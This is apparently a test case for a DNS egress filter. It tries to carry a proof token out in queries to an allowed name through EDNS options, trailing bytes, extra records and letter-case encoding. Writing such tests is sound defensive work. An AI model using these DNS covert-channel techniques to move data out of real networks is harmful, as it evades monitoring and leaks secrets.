"""Carries data out beside the question for an allowed name: in options, trailing bytes, more records and more questions, and letters' case.

group: names
effect: asks
allow: web.example.com
asks: web.example.com
"""
data = arena.proof.encode()
OPT, COOKIE, SUBNET, PADDING, LOCAL = 41, 10, 8, 12, 65001
for code in (COOKIE, SUBNET, PADDING, LOCAL):
    option = struct.pack("!HH", code, len(data)) + data
    ask(question("web.example.com", additional=1, extra=b"\0" + struct.pack("!HHIH", OPT, 1232, 0, len(option)) + option))
ask(question("web.example.com", extra=data))
ask(question("web.example.com", questions=2, extra=bytes([len(data)]) + data + b"\0" + struct.pack("!HH", 1, 1)))
ask(question("web.example.com", additional=1, extra=b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 60, len(data) + 1) + bytes([len(data)]) + data))
for bits in range(1, 16):
    ask(question("".join(letter.upper() if bits >> index & 1 else letter for index, letter in enumerate("web.example.com"))))
